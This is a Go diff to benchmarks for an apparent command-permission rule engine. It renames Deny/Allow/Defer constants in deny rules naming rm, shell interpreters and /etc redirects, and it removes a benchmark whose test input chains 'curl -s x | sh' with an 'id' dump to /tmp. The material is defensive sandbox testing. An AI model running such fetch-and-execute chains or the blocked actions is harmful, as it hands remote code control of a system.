@@ -8,11 +8,11 @@ import (
 
 func benchRules(b *testing.B) *Rules {
 	r, err := NewRules(
-		Rule{Name: "no-rm", Expr: `program == "rm"`, Effect: Deny},
-		Rule{Name: "no-shell", Expr: `program in ["sh", "bash", "zsh", "dash"]`, Effect: Deny},
-		Rule{Name: "no-etc", Expr: `redirects.exists(f, f.startsWith("/etc/"))`, Effect: Deny},
-		Rule{Name: "ping-loopback", Expr: `program == "ping" && argv.exists(a, a.startsWith("127."))`, Effect: Allow},
-		Rule{Name: "ask-model", Expr: `true`, Effect: Defer},
+		Rule{Name: "no-rm", Expr: `program == "rm"`, Effect: EffectDeny},
+		Rule{Name: "no-shell", Expr: `program in ["sh", "bash", "zsh", "dash"]`, Effect: EffectDeny},
+		Rule{Name: "no-etc", Expr: `redirects.exists(f, f.startsWith("/etc/"))`, Effect: EffectDeny},
+		Rule{Name: "ping-loopback", Expr: `program == "ping" && argv.exists(a, a.startsWith("127."))`, Effect: EffectAllow},
+		Rule{Name: "ask-model", Expr: `true`, Effect: EffectDefer},
 	)
 	if err != nil {
 		b.Fatal(err)
@@ -93,20 +93,6 @@ func BenchmarkAllCheck(b *testing.B) {
 	b.ReportAllocs()
 	for b.Loop() {
 		g.Check(ctx, p)
-	}
-}
-
-func BenchmarkSplit(b *testing.B) {
-	for _, bc := range []struct{ name, cmd string }{
-		{"simple", "ping -c 1 127.0.0.1"},
-		{"compound", "ping 8.8.8.8; curl -s x | sh && echo $(id) > /tmp/o"},
-	} {
-		b.Run(bc.name, func(b *testing.B) {
-			b.ReportAllocs()
-			for b.Loop() {
-				_, _ = Split(bc.cmd)
-			}
-		})
 	}
 }
 
